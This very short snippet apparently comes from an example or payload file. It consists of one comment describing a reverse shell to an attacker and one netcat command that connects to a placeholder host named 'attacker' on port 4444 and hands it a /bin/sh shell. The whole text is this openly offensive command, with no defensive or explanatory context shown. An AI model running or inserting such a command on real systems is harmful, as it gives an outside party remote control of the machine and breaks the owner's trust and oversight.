# A reverse shell to the attacker, who runs a few commands through it.
nc attacker 4444 -e /bin/sh
